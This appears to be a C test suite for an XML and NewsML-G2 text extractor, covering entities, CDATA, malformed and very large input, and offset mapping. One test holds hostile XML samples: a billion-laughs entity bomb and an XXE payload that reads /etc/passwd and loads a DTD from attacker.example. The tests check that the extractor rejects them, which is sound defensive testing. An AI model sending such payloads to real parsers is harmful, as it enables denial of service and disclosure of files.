/* test_extract_xml.c: XML and NewsML-G2 extraction, with the offset map checked against the exact
 * input bytes every time. Inputs are copied into heap buffers of their exact length (no NUL) so
 * that AddressSanitizer catches any read past `len`. */
#include "extract_check.h"

#include <stdlib.h>

static int xml_n(pd_extracted *x, const char *s, size_t n)
{
    return extract_checked(pd_extract_xml, x, s, n, true);
}

static int xml(pd_extracted *x, const char *s) { return xml_n(x, s, strlen(s)); }

/* Every occurrence of every text byte maps inside the input, and each piece of `subs` maps to
 * exactly the same bytes in the input (the round trip the scanner relies on). */
static void check_round_trip(const pd_extracted *x, const char *const *subs, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        size_t at = find(x->text, x->len, subs[i], strlen(subs[i]));
        CHECK(at != SIZE_MAX);
        if (at == SIZE_MAX) continue;
        size_t a, b;
        pd_offmap_range(&x->map, at, at + strlen(subs[i]), &a, &b);
        CHECK(b - a == strlen(subs[i]) && memcmp(input + a, subs[i], b - a) == 0);
    }
}

static void test_generic(pd_extracted *x)
{
    CHECK_INT(xml(x, "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
                     "<release><title>Leisure centre</title>\n  <summary>Cllr Jane Green opens "
                     "it</summary><body><para>The <em>new</em> pool</para><para>Opens "
                     "today</para></body></release>"),
              PURDAH_OK);
    CHECK_STR(x->text, "Leisure centre\n\nCllr Jane Green opens it\n\nThe new pool\n\nOpens today");
    CHECK_INT(x->flags, 0);
    CHECK_INT(x->segment_count, 2); /* the title is a headline, the rest body */
    CHECK_STR(role_of(x, "Leisure"), "headline");
    CHECK_STR(role_of(x, "Cllr"), "body");
    static const char *const subs[] = {"Leisure centre", "Cllr Jane Green opens it", "pool",
                                       "Opens today"};
    check_round_trip(x, subs, PD_ARRAY_LEN(subs));
    CHECK_STR(mapped(x, "The new pool"), "The <em>new</em> pool");
    CHECK(!text_has(x, "centreCllr") && !text_has(x, "itThe"));

    /* mixed content: an unknown element inside running text does not break the sentence */
    xml(x, "<doc><p>Councillor <person id=\"p1\">Jane Green</person> said it</p>"
           "<p>Next<x/>Word</p><item>A</item><item>B</item>\n<item>C</item></doc>");
    CHECK_STR(x->text, "Councillor Jane Green said it\n\nNextWord\n\nA\n\nB\n\nC");
    CHECK_STR(mapped(x, "Jane Green said"), "Jane Green</person> said");
    xml(x, "<p>Cllr <first>Jane</first> <b>Green</b> and <first>Ann</first> <last>Lee</last></p>");
    CHECK_STR(x->text, "Cllr Jane Green and Ann\n\nLee"); /* siblings with only space: apart */

    /* namespace prefixes: matched by local name; inline XHTML names stay inline */
    xml(x, "<x:doc xmlns:x=\"urn:x\" xmlns:h=\"http://www.w3.org/1999/xhtml\"><x:p>Vote "
           "<h:b>for</h:b> <h:span>us</h:span></x:p><x:p>end</x:p></x:doc>");
    CHECK_STR(x->text, "Vote for us\n\nend");

    /* attributes: alt, title and href (xlink:href too) are text of their own; others are not */
    xml(x, "<doc><figure src=\"a.jpg\" alt=\"Cllr Green &amp; friends\" title='Photo'/>"
           "<ref xlink:href=\"https://example.org/?a=1&amp;b=2\" xmlns:xlink=\"urn:xlink\" "
           "xmlns:alt=\"urn:alt\">Labour site</ref><note id=\"n1\" lang=\"en\">x</note></doc>");
    CHECK_STR(x->text, "Cllr Green & friends\n\nPhoto\n\nhttps://example.org/?a=1&b=2\n\n"
                       "Labour site\n\nx");
    CHECK_STR(role_of(x, "Cllr"), "image_alt");
    CHECK_STR(role_of(x, "Photo"), "title");
    CHECK_STR(role_of(x, "https"), "link_url");
    CHECK_STR(role_of(x, "Labour"), "body");
    CHECK_STR(mapped(x, "Cllr Green & friends"), "Cllr Green &amp; friends");
    CHECK_STR(mapped(x, "https://example.org/?a=1&b=2"), "https://example.org/?a=1&amp;b=2");
    CHECK(!text_has(x, "a.jpg") && !text_has(x, "urn:") && !text_has(x, "n1"));
    CHECK_INT(mapped_start(x, "Photo"), input_offset("Photo"));
}

static void test_entities(pd_extracted *x)
{
    xml(x, "<a>R&amp;D &lt;b&gt; &quot;q&quot; O&apos;Brien O&#8217;Neil O&#x2019;Hara "
           "&#65;&#x42;</a>");
    CHECK_STR(x->text, "R&D <b> \"q\" O'Brien O\xE2\x80\x99Neil O\xE2\x80\x99Hara AB");
    CHECK_STR(mapped(x, "R&D"), "R&amp;D");
    CHECK_STR(mapped(x, "&"), "&amp;");
    CHECK_STR(mapped(x, "<b>"), "&lt;b&gt;");
    CHECK_STR(mapped(x, "\xE2\x80\x99Neil"), "&#8217;Neil");
    CHECK_STR(mapped(x, "\x80"), "&#8217;"); /* a part of a character maps to the whole reference */
    CHECK_STR(mapped(x, "AB"), "&#65;&#x42;");

    /* anything else stays literal, byte for byte: HTML names, undeclared, no ';' */
    xml(x, "<a>&nbsp; &foo; &amp &#65 &#xZZ; &#; & AT&T</a>");
    CHECK_STR(x->text, "&nbsp; &foo; &amp &#65 &#xZZ; &#; & AT&T");
    CHECK_INT(x->map.count, 1);
    CHECK_STR(mapped(x, "&foo;"), "&foo;");

    /* no character -> U+FFFD; C1 as Windows-1252 */
    xml(x, "<a>[&#0;][&#xD800;][&#x110000;][&#99999999999999999999;][&#146;]</a>");
    CHECK_STR(x->text, "[\xEF\xBF\xBD][\xEF\xBF\xBD][\xEF\xBF\xBD][\xEF\xBF\xBD][\xE2\x80\x99]");

    /* references in attribute values are decoded too */
    xml(x, "<a title=\"a&lt;b\">t</a>");
    CHECK_STR(x->text, "a<b\n\nt");
    CHECK_STR(mapped(x, "a<b"), "a&lt;b");
}

static void test_skipped(pd_extracted *x)
{
    xml(x, "<?xml version='1.0'?><!-- Vote Labour --><a>x<!-- y -->z<?pi Vote ?>w</a>"
           "<!-- after -->");
    CHECK_STR(x->text, "xzw");
    CHECK_STR(mapped(x, "xzw"), "x<!-- y -->z<?pi Vote ?>w");
    CHECK_INT(x->flags, 0);

    /* CDATA is literal text, byte to byte */
    xml(x, "<a>before <![CDATA[<b>Cllr & Green</b> &amp;]]> after</a>");
    CHECK_STR(x->text, "before <b>Cllr & Green</b> &amp; after");
    CHECK_STR(mapped(x, "<b>Cllr & Green</b> &amp;"), "<b>Cllr & Green</b> &amp;");
    CHECK_STR(mapped(x, "&amp; after"), "&amp;]]> after");
    xml(x, "<a><![CDATA[]]>x<![CDATA[]]]]>y</a>");
    CHECK_STR(x->text, "x]]y");

    /* DOCTYPE with an internal subset holding '>' and ']' in literals, comments and PIs */
    xml(x, "<!DOCTYPE doc PUBLIC \"-//x//>]\" 'x.dtd' [\n"
           "  <!ELEMENT doc (#PCDATA)>\n"
           "  <!ENTITY e \"]> <doc>hidden</doc>\">\n"
           "  <!-- ]> <doc>hidden</doc> -->\n"
           "  <?pi ]> ?>\n"
           "]>\n<doc>shown &e;</doc>");
    CHECK_STR(x->text, "shown &e;");
    CHECK_INT(x->flags, 0);
}

static void test_entity_attacks(pd_extracted *x)
{
    /* billion laughs: the entities are never expanded */
    const char *lol = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n"
                      " <!ENTITY lol \"lol\">\n"
                      " <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n"
                      " <!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">\n"
                      " <!ENTITY lol9 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n"
                      "]>\n<lolz>&lol9;</lolz>";
    CHECK_INT(xml(x, lol), PURDAH_OK);
    CHECK_STR(x->text, "&lol9;");
    CHECK_STR(mapped(x, "&lol9;"), "&lol9;");

    /* XXE: external entities are never loaded */
    const char *xxe = "<?xml version=\"1.0\"?>\n"
                      "<!DOCTYPE foo [ <!ELEMENT foo ANY >\n"
                      "  <!ENTITY xxe SYSTEM \"file:///etc/passwd\" >\n"
                      "  <!ENTITY % remote SYSTEM \"http://attacker.example/evil.dtd\"> %remote; ]>\n"
                      "<foo>&xxe;</foo>";
    CHECK_INT(xml(x, xxe), PURDAH_OK);
    CHECK_STR(x->text, "&xxe;");
    CHECK(!text_has(x, "root:"));

    /* an external DTD by reference is not fetched either */
    xml(x, "<!DOCTYPE html SYSTEM \"http://attacker.example/x.dtd\"><a>&ext;</a>");
    CHECK_STR(x->text, "&ext;");
}

/* A NewsML-G2 text item shaped like the IPTC examples, with an XHTML body. */
static const char newsml_text[] =
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
    "<newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\"\n"
    "    xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\"\n"
    "    guid=\"urn:newsml:millbrook.gov.uk:20270412:leisure\" version=\"3\"\n"
    "    standard=\"NewsML-G2\" standardversion=\"2.28\" conformance=\"power\" xml:lang=\"en-GB\">\n"
    "  <catalogRef href=\"http://www.iptc.org/std/catalog/catalog.IPTC-G2-Standards_32.xml\"/>\n"
    "  <rightsInfo>\n"
    "    <copyrightHolder uri=\"http://www.millbrook.gov.uk\"><name>Millbrook Council</name>"
    "</copyrightHolder>\n"
    "    <copyrightNotice>Copyright 2027 Millbrook Council</copyrightNotice>\n"
    "  </rightsInfo>\n"
    "  <itemMeta>\n"
    "    <itemClass qcode=\"ninat:text\"/>\n"
    "    <provider qcode=\"nprov:MBC\"/>\n"
    "    <versionCreated>2027-04-12T09:00:00Z</versionCreated>\n"
    "    <pubStatus qcode=\"stat:usable\"/>\n"
    "    <title>MBC-LEISURE-0412</title>\n"
    "    <edNote>Embargoed until 10:00</edNote>\n"
    "  </itemMeta>\n"
    "  <contentMeta>\n"
    "    <contentCreated>2027-04-12T08:00:00Z</contentCreated>\n"
    "    <creator><name>Press Office</name></creator>\n"
    "    <subject type=\"cpnat:abstract\" qcode=\"medtop:20000523\">\n"
    "      <name xml:lang=\"en-GB\">labour market</name>\n"
    "    </subject>\n"
    "    <keyword>leisure</keyword>\n"
    "    <keyword>pool</keyword>\n"
    "    <slugline>Leisure-Centre</slugline>\n"
    "    <headline>Cllr Okonkwo opens &amp; names new pool</headline>\n"
    "    <description role=\"drol:summary\">The council&#8217;s new pool opens</description>\n"
    "    <description role=\"drol:caption\">Priya Okonkwo at the pool</description>\n"
    "    <creditline>Photo: Millbrook Council</creditline>\n"
    "    <by>By the Press Office</by>\n"
    "  </contentMeta>\n"
    "  <contentSet>\n"
    "    <inlineXML contenttype=\"application/xhtml+xml\">\n"
    "      <html xmlns=\"http://www.w3.org/1999/xhtml\">\n"
    "        <head><title>Pool opens</title></head>\n"
    "        <body>\n"
    "          <h1>A new pool for Millbrook</h1>\n"
    "          <p>The pool, <b>promised</b> in the <a href=\"https://labour.example/manifesto\" "
    "title=\"Manifesto\">Labour manifesto</a>, opens today.</p>\n"
    "          <blockquote><p>We delivered it</p></blockquote>\n"
    "          <p>She said <q>come along</q> to it.</p>\n"
    "          <figure><img src=\"pool.jpg\" alt=\"Cllr Okonkwo cuts the ribbon\"/>"
    "<figcaption>Opening day</figcaption></figure>\n"
    "          <script>var vote = 'Labour';</script>\n"
    "        </body>\n"
    "      </html>\n"
    "    </inlineXML>\n"
    "  </contentSet>\n"
    "</newsItem>\n";

static void test_newsml_text(pd_extracted *x)
{
    CHECK_INT(xml(x, newsml_text), PURDAH_OK);
    CHECK_INT(x->flags, 0);
    CHECK_STR(role_of(x, "Leisure-Centre"), "headline");
    CHECK_STR(role_of(x, "Cllr Okonkwo opens"), "headline");
    CHECK_STR(mapped(x, "opens & names"), "opens &amp; names");
    CHECK_STR(role_of(x, "pool opens"), "body");
    CHECK_STR(mapped(x, "council\xE2\x80\x99s"), "council&#8217;s");
    CHECK_STR(role_of(x, "Priya Okonkwo at"), "caption");
    CHECK_STR(role_of(x, "Photo: Millbrook"), "caption");
    CHECK_STR(role_of(x, "By the Press"), "attribution");
    CHECK_STR(role_of(x, "labour market"), "metadata");
    CHECK_STR(role_of(x, "leisure\n"), "metadata");
    CHECK_STR(role_of(x, "Press Office\n"), "metadata");
    CHECK_STR(role_of(x, "MBC-LEISURE"), "metadata");
    CHECK_STR(role_of(x, "Embargoed"), "metadata");
    CHECK(!text_has(x, "leisurepool") && !text_has(x, "leisure pool"));
    /* skipped: rights, identifiers, dates, qcodes, URIs */
    CHECK(!text_has(x, "Copyright") && !text_has(x, "Millbrook Council\n\nCopyright"));
    CHECK(!text_has(x, "2027-04-12") && !text_has(x, "ninat") && !text_has(x, "iptc.org"));
    CHECK(!text_has(x, "urn:newsml"));
    /* the XHTML body */
    CHECK_STR(role_of(x, "Pool opens"), "headline");
    CHECK_STR(role_of(x, "A new pool"), "headline");
    CHECK_STR(role_of(x, "The pool, promised"), "body");
    CHECK_STR(mapped(x, "The pool, promised in the "), "The pool, <b>promised</b> in the ");
    CHECK_STR(role_of(x, "https://labour.example"), "link_url");
    CHECK_STR(role_of(x, "Manifesto"), "title");
    CHECK_STR(role_of(x, "Labour manifesto"), "link_text");
    CHECK_STR(role_of(x, ", opens today."), "body");
    CHECK_STR(role_of(x, "We delivered"), "quote");
    CHECK_STR(role_of(x, "come along"), "quote");
    CHECK_STR(role_of(x, "She said"), "body");
    CHECK_STR(role_of(x, "Cllr Okonkwo cuts"), "image_alt");
    CHECK_STR(role_of(x, "Opening day"), "caption");
    CHECK(!text_has(x, "pool.jpg") && !text_has(x, "var vote"));
    static const char *const subs[] = {"Leisure-Centre", "Cllr Okonkwo",
                                       "Priya Okonkwo at the pool", "Photo: Millbrook Council",
                                       "A new pool for Millbrook", "https://labour.example/manifesto",
                                       "Labour manifesto", "We delivered it", "come along",
                                       "Cllr Okonkwo cuts the ribbon", "Opening day", "labour market"};
    check_round_trip(x, subs, PD_ARRAY_LEN(subs));
    CHECK_INT(mapped_start(x, "Cllr Okonkwo opens"), input_offset("Cllr Okonkwo opens"));
}

static void test_newsml_picture(pd_extracted *x)
{
    /* a picture item: what describes it is a caption; the remote content is not text */
    xml(x, "<newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\" guid=\"p1\" version=\"1\" "
           "standard=\"NewsML-G2\" standardversion=\"2.33\">\n"
           "  <itemMeta><itemClass qcode=\"ninat:picture\"/><provider qcode=\"nprov:MBC\"/>"
           "</itemMeta>\n"
           "  <contentMeta>\n"
           "    <creator role=\"crol:photographer\"><name>Sam Lens</name></creator>\n"
           "    <creditline>Millbrook Council</creditline>\n"
           "    <headline>Cllr Green at the opening</headline>\n"
           "    <description role=\"drol:summary\">Jane Green, Labour candidate</description>\n"
           "  </contentMeta>\n"
           "  <contentSet>\n"
           "    <remoteContent rendition=\"rnd:highRes\" href=\"pool.jpg\" contenttype=\"image/jpeg\">"
           "<altId type=\"x:id\">105864332</altId></remoteContent>\n"
           "  </contentSet>\n"
           "</newsItem>");
    CHECK_STR(role_of(x, "Cllr Green at"), "caption");
    CHECK_STR(role_of(x, "Jane Green, Labour"), "caption");
    CHECK_STR(role_of(x, "Millbrook Council"), "caption");
    CHECK_STR(role_of(x, "Sam Lens"), "metadata");
    CHECK(!text_has(x, "105864332") && !text_has(x, "pool.jpg"));

    /* a package: references to a story and a picture; a prefixed root and remote descriptions */
    xml(x, "<nar:packageItem xmlns:nar=\"http://iptc.org/std/nar/2006-10-01/\" guid=\"k\">"
           "<nar:itemMeta><nar:itemClass qcode=\"ninat:composite\"/><nar:title>PKG-1</nar:title>"
           "</nar:itemMeta>"
           "<nar:groupSet root=\"G1\"><nar:group id=\"G1\" role=\"group:main\">"
           "<nar:itemRef residref=\"a\"><nar:itemClass qcode=\"ninat:text\"/>"
           "<nar:title>Council backs pool</nar:title>"
           "<nar:description role=\"drol:summary\">Vote for the pool</nar:description>"
           "</nar:itemRef>"
           "<nar:itemRef residref=\"b\"><nar:itemClass qcode=\"ninat:picture\"/>"
           "<nar:title>Cllr Green smiles</nar:title></nar:itemRef>"
           "<nar:itemRef residref=\"c\"><nar:title>Story again</nar:title></nar:itemRef>"
           "</nar:group></nar:groupSet>"
           "<nar:contentSet><nar:remoteContent href=\"x.jpg\"><nar:description>Pictured: the "
           "Mayor</nar:description><nar:altId>ALT-77</nar:altId></nar:remoteContent></nar:contentSet>"
           "</nar:packageItem>");
    CHECK_STR(role_of(x, "PKG-1"), "metadata");
    CHECK_STR(role_of(x, "Council backs"), "headline");
    CHECK_STR(role_of(x, "Vote for the pool"), "body");
    CHECK_STR(role_of(x, "Cllr Green smiles"), "caption");
    CHECK_STR(role_of(x, "Story again"), "headline"); /* the picture flag is per reference */
    CHECK_STR(role_of(x, "Pictured"), "caption");
    CHECK(!text_has(x, "ALT-77"));
    CHECK_STR(mapped(x, "Pictured: the Mayor"), "Pictured: the Mayor");

    /* a root known only by its namespace; inlineData text and binary */
    xml(x, "<conceptItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\"><x/></conceptItem>");
    CHECK_INT(x->len, 0);
    xml(x, "<g2:planningItem xmlns:g2=\"http://iptc.org/std/nar/2006-10-01/\">"
           "<g2:contentSet><g2:inlineData contenttype=\"text/plain\">Plain &amp; simple"
           "</g2:inlineData><g2:inlineData contenttype=\"image/png\" encoding=\"base64\">"
           "iVBORw0KGgo=</g2:inlineData><g2:inlineData>Untyped</g2:inlineData></g2:contentSet>"
           "<g2:contentMeta><g2:headline>Head</g2:headline></g2:contentMeta></g2:planningItem>");
    CHECK_STR(role_of(x, "Plain & simple"), "body");
    CHECK_STR(role_of(x, "Untyped"), "body");
    CHECK_STR(role_of(x, "Head"), "headline");
    CHECK(!text_has(x, "iVBOR"));
    /* roots known only by their namespace, default or prefixed */
    xml(x, "<feed xmlns=\"http://iptc.org/std/nar/2006-10-01/\"><headline>H1</headline></feed>");
    CHECK_STR(role_of(x, "H1"), "headline");
    xml(x, "<g2:feed xmlns:g2=\"http://iptc.org/std/nar/2006-10-01/\"><g2:headline>H2"
           "</g2:headline></g2:feed>");
    CHECK_STR(role_of(x, "H2"), "headline");
    xml(x, "<a:feed xmlns:b=\"http://iptc.org/std/nar/2006-10-01/\"><a:headline>H3"
           "</a:headline></a:feed>");
    CHECK_STR(role_of(x, "H3"), "body");
    /* the same names outside NewsML are plain body text */
    xml(x, "<story xmlns=\"urn:other\"><headline>H</headline><rightsInfo>R</rightsInfo></story>");
    CHECK_STR(x->text, "H\n\nR");
    CHECK_STR(role_of(x, "H"), "body");
}

static void test_newsml_nitf(pd_extracted *x)
{
    /* a newsMessage carrying an item whose body is NITF, as in the IPTC guidelines */
    xml(x, "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
           "<newsMessage xmlns=\"http://iptc.org/std/nar/2006-10-01/\">\n"
           "  <header><sent>2027-04-12T11:17:00Z</sent><sender>millbrook.gov.uk</sender></header>\n"
           "  <itemSet>\n"
           "    <newsItem guid=\"N1\">\n"
           "      <contentSet><inlineXML contenttype=\"application/nitf+xml\">\n"
           "        <nitf xmlns=\"http://iptc.org/std/NITF/2006-10-18/\"><body>\n"
           "          <body.head><hedline><hl1>Pool opens</hl1></hedline>\n"
           "            <byline>By <person>Ann Reporter</person>, Staff</byline></body.head>\n"
           "          <body.content><p>Councillor <person>Jane Green</person> said "
           "<q>vote</q>.</p><bq><block><p>Quoted</p></block></bq>\n"
           "            <media media-type=\"image\"><media-reference source=\"x.jpg\" "
           "alternate-text=\"Green at the pool\"/><media-caption>Caption "
           "text</media-caption></media></body.content>\n"
           "        </body></nitf>\n"
           "      </inlineXML></contentSet>\n"
           "    </newsItem>\n"
           "  </itemSet>\n"
           "</newsMessage>\n");
    CHECK_INT(x->flags, 0);
    CHECK(!text_has(x, "millbrook.gov.uk") && !text_has(x, "2027"));
    CHECK_STR(role_of(x, "Pool opens"), "headline");
    CHECK_STR(role_of(x, "By Ann Reporter, Staff"), "attribution");
    CHECK_STR(role_of(x, "Councillor Jane Green said"), "body");
    CHECK_STR(mapped(x, "Jane Green said"), "Jane Green</person> said");
    CHECK_STR(role_of(x, "vote"), "quote");
    CHECK_STR(role_of(x, "Quoted"), "quote");
    CHECK_STR(role_of(x, "Green at the pool"), "image_alt");
    CHECK_STR(role_of(x, "Caption text"), "caption");

    /* an XHTML document as the root is read as HTML */
    xml(x, "<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"><head>"
           "<title>T</title></head><body><h2>H</h2><p>a<br/>b</p></body></html>");
    CHECK_STR(x->text, "T\n\nH\n\na\nb");
    CHECK_STR(role_of(x, "T"), "headline");
    CHECK_STR(role_of(x, "a\nb"), "body");
}

static void test_malformed(pd_extracted *x)
{
    /* unterminated tag, comment, PI, DOCTYPE: the rest is dropped */
    CHECK_INT(xml(x, "<a>Hello <b class=\"x>never"), PURDAH_OK);
    CHECK_STR(x->text, "Hello ");
    CHECK(x->flags & PD_EXTRACT_MALFORMED);
    xml(x, "<a>x<!-- never closed <b>y</b>");
    CHECK_STR(x->text, "x");
    CHECK(x->flags & PD_EXTRACT_MALFORMED);
    xml(x, "<a>x<?pi never");
    CHECK_STR(x->text, "x");
    CHECK(x->flags & PD_EXTRACT_MALFORMED);
    xml(x, "<!DOCTYPE a [ <!ENTITY e 'x'> <a>hidden</a>");
    CHECK_INT(x->len, 0);
    CHECK(x->flags & PD_EXTRACT_MALFORMED);
    /* unterminated CDATA is kept: the author wrote it */
    xml(x, "<a>x<![CDATA[y <b>z");
    CHECK_STR(x->text, "xy <b>z");
    CHECK(x->flags & PD_EXTRACT_MALFORMED);
    /* unclosed and mismatched elements */
    xml(x, "<r><s>one</r><t>two");
    CHECK_STR(x->text, "one\n\ntwo");
    CHECK(x->flags & PD_EXTRACT_MALFORMED);
    xml(x, "<a>one</b>two</a></a></ >three</>");
    CHECK_STR(x->text, "onetwothree");
    CHECK(x->flags & PD_EXTRACT_MALFORMED);
    /* a bare '<' is text */
    xml(x, "<a>3 < 4 <= 5 <</a>");
    CHECK_STR(x->text, "3 < 4 <= 5 <");
    CHECK(x->flags & PD_EXTRACT_MALFORMED);
    xml(x, "<r>x</r><");
    CHECK_STR(x->text, "x<"); /* text right after an element: mixed content */
    xml(x, "<");
    CHECK_STR(x->text, "<");
    CHECK_INT(xml(x, ""), PURDAH_OK);
    CHECK_INT(x->len, 0);
    CHECK_INT(pd_extract_xml(x, NULL, 0), PURDAH_OK);
    CHECK_INT(pd_extract_xml(x, NULL, 3), PURDAH_EINVAL);
    /* odd attributes: valueless, unquoted, stray quotes and '=' */
    xml(x, "<a checked alt=unquoted = \"x\" 'y' title=\"t\" title2>z</a>");
    CHECK_STR(x->text, "unquoted\n\nt\n\nz");
    /* '>' inside a quoted attribute value does not end the tag */
    xml(x, "<a title=\"a > b\" alt='c>d'>e</a>");
    CHECK_STR(x->text, "a > b\n\nc>d\n\ne");

    /* NUL bytes and invalid UTF-8 are copied through; a BOM is skipped */
    static const char nul[] = "\xEF\xBB\xBF<a>x\0y\xFF\xC3(<b\0c>\0</b\0c></a>";
    xml_n(x, nul, sizeof nul - 1);
    CHECK_INT(x->len, 7);
    CHECK(memcmp(x->text, "x\0y\xFF\xC3(\0", 7) == 0);
    CHECK_INT(mapped_start(x, "\xFF\xC3("), 9);

    /* every prefix of a real document: no crash, invariants hold, never past len */
    size_t n = strlen(newsml_text);
    for (size_t i = 0; i <= n; i += 7) xml_n(x, newsml_text, i);
    CHECK(x->len > 0);
}

static char *repeat_inside(const char *head, const char *piece, size_t times, const char *tail,
                    size_t *len)
{
    size_t h = strlen(head), n = strlen(piece), t = strlen(tail);
    char *s = malloc(h + n * times + t);
    memcpy(s, head, h);
    for (size_t i = 0; i < times; i++) memcpy(s + h + i * n, piece, n);
    memcpy(s + h + n * times, tail, t);
    *len = h + n * times + t;
    return s;
}

static void test_big(pd_extracted *x)
{
    size_t n, m;
    char *s, *t;

    /* 100k nested elements, closed: depth cap, text kept (each input here would take minutes
     * if anything were quadratic) */
    s = repeat_inside("", "<d>", 100000, "deep text", &n);
    t = repeat_inside("", "</d>", 100000, "<e>after</e>", &m);
    char *both = malloc(n + m);
    memcpy(both, s, n);
    memcpy(both + n, t, m);
    CHECK_INT(xml_n(x, both, n + m), PURDAH_OK);
    CHECK_STR(x->text, "deep text\n\nafter");
    CHECK(x->flags & PD_EXTRACT_DEEP);
    CHECK(!(x->flags & PD_EXTRACT_MALFORMED));
    CHECK_STR(mapped(x, "deep text"), "deep text");
    free(both);
    free(t);
    free(s);

    /* 100k nested, never closed */
    s = repeat_inside("", "<d x='1'>", 100000, "end", &n);
    xml_n(x, s, n);
    CHECK_STR(x->text, "end");
    CHECK(x->flags & PD_EXTRACT_DEEP);
    CHECK(x->flags & PD_EXTRACT_MALFORMED);
    free(s);

    /* 256 open elements then 200k stray end tags of a colliding bucket */
    s = repeat_inside("<r>", "<a><b><c><d>", 64, "", &n);
    t = repeat_inside("x", "</zz>", 200000, "y", &m);
    both = malloc(n + m);
    memcpy(both, s, n);
    memcpy(both + n, t, m);
    xml_n(x, both, n + m);
    CHECK_STR(x->text, "xy");
    free(both);
    free(t);
    free(s);

    /* a 1 MB attribute value, a 1 MB attribute name, a 1 MB element name */
    s = repeat_inside("<a title=\"", "v", 1 << 20, "\">t</a>", &n);
    xml_n(x, s, n);
    CHECK_INT(x->len, (1 << 20) + 3);
    free(s);
    s = repeat_inside("<a ", "n", 1 << 20, "=\"v\">t</a>", &n);
    xml_n(x, s, n);
    CHECK_STR(x->text, "t");
    free(s);
    s = repeat_inside("<", "n", 1 << 20, ">t</nn>u", &n);
    xml_n(x, s, n);
    CHECK_STR(x->text, "tu");
    free(s);
    /* an unterminated 1 MB quoted value */
    s = repeat_inside("<a>x<b title=\"", "v", 1 << 20, "", &n);
    xml_n(x, s, n);
    CHECK_STR(x->text, "x");
    free(s);
    /* many references, many comments, many dashes in an unterminated comment */
    s = repeat_inside("<a>", "&amp;&#x41;&foo;", 100000, "</a>", &n);
    xml_n(x, s, n);
    CHECK_INT(x->len, 100000 * 7);
    free(s);
    s = repeat_inside("<a>", "<!---->x", 100000, "</a>", &n);
    xml_n(x, s, n);
    CHECK_INT(x->len, 100000);
    free(s);
    s = repeat_inside("<a>x<!--", "-", 1 << 20, "", &n);
    xml_n(x, s, n);
    CHECK_STR(x->text, "x");
    free(s);
    s = repeat_inside("<!DOCTYPE a [", "<!ENTITY e 'x>]'><!-- >] --><?p >] ?>", 100000, "", &n);
    xml_n(x, s, n);
    CHECK_INT(x->len, 0);
    CHECK(x->flags & PD_EXTRACT_MALFORMED);
    free(s);
    /* many self-closing and sibling elements */
    s = repeat_inside("<r>", "<i a=\"1\"/><j>w</j>", 100000, "</r>", &n);
    xml_n(x, s, n);
    CHECK_INT(x->len, 100000 * 3 - 2);
    free(s);
}

static void test_reuse(pd_extracted *x)
{
    xml(x, "<a>one</a>");
    xml(x, "<a>two</a>");
    CHECK_STR(x->text, "two");
    CHECK_INT(x->segment_count, 1);
    CHECK_INT(x->flags, 0);
}

static void test_reader(void)
{
    /* the reader directly: balanced events, depths, implied ends, attributes */
    static const char doc[] = "<a x='1' y=\"2\"><b/>t<c><d></c>&amp;</a>";
    pd_xml_reader r;
    pd_xml_token t;
    pd_xml_reader_init(&r, doc, sizeof doc - 1);
    char trace[128] = "";
    for (pd_xml_event ev; (ev = pd_xml_next(&r, &t)) != PD_XML_EOF;) {
        char item[32];
        if (ev == PD_XML_START)
            snprintf(item, sizeof item, "<%.*s%zu", (int)t.local_len, doc + t.local, t.depth);
        else if (ev == PD_XML_END)
            snprintf(item, sizeof item, ">%.*s%s", (int)t.local_len, doc + t.local,
                     t.start == t.end ? "*" : "");
        else snprintf(item, sizeof item, "'%.*s'", (int)(t.end - t.start), doc + t.start);
        strncat(trace, item, sizeof trace - strlen(trace) - 1);
        if (ev == PD_XML_START && t.depth == 1) {
            size_t cur = t.attrs;
            pd_xml_attr a;
            int count = 0;
            while (pd_xml_next_attr(&r, &cur, t.attrs_end, &a)) {
                count++;
                if (count == 2) CHECK(pd_xml_eq(doc, a.value, a.value_len, "2"));
            }
            CHECK_INT(count, 2);
        }
    }
    CHECK_STR(trace, "<a1<b2>b*'t'<c2<d3>d*>c'&amp;'>a");
    CHECK(r.malformed);
}

static void test_looks_like_xml(void)
{
    CHECK(pd_looks_like_xml("<?xml version=\"1.0\"?><rss/>", 26));
    CHECK(pd_looks_like_xml(newsml_text, strlen(newsml_text)));
    CHECK(pd_looks_like_xml("\xEF\xBB\xBF <!-- c --><newsItem xmlns='x'>", 37));
    CHECK(pd_looks_like_xml("<nar:newsItem>", 14));
    CHECK(pd_looks_like_xml("<!DOCTYPE doc [<!ENTITY a 'b'>]><doc/>", 38));
    CHECK(pd_looks_like_xml("<?xml version='1.0'?>", 21));
    CHECK(!pd_looks_like_xml("<!DOCTYPE html><html><p>x</p>", 29));
    CHECK(!pd_looks_like_xml("<html><body>", 12));
    CHECK(!pd_looks_like_xml("<p>Hello</p>", 12));
    CHECK(!pd_looks_like_xml("<DIV>x</DIV>", 12));
    CHECK(!pd_looks_like_xml("<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'>", 64));
    CHECK(!pd_looks_like_xml("Hello <b>world</b>", 18));
    CHECK(!pd_looks_like_xml("", 0));
    CHECK(!pd_looks_like_xml(NULL, 0));
    CHECK(!pd_looks_like_xml("< a>", 4));
    CHECK(!pd_looks_like_xml("# Title\n\n<!-- x -->text", 23));
    CHECK(!pd_looks_like_xml("<!-- x -->text", 14));
}

int main(void)
{
    pd_extracted x;
    pd_extracted_init(&x);
    test_generic(&x);
    test_entities(&x);
    test_skipped(&x);
    test_entity_attacks(&x);
    test_newsml_text(&x);
    test_newsml_picture(&x);
    test_newsml_nitf(&x);
    test_malformed(&x);
    test_big(&x);
    test_reuse(&x);
    test_reader();
    test_looks_like_xml();
    pd_extracted_free(&x);
    free(input);
    return harness_report();
}
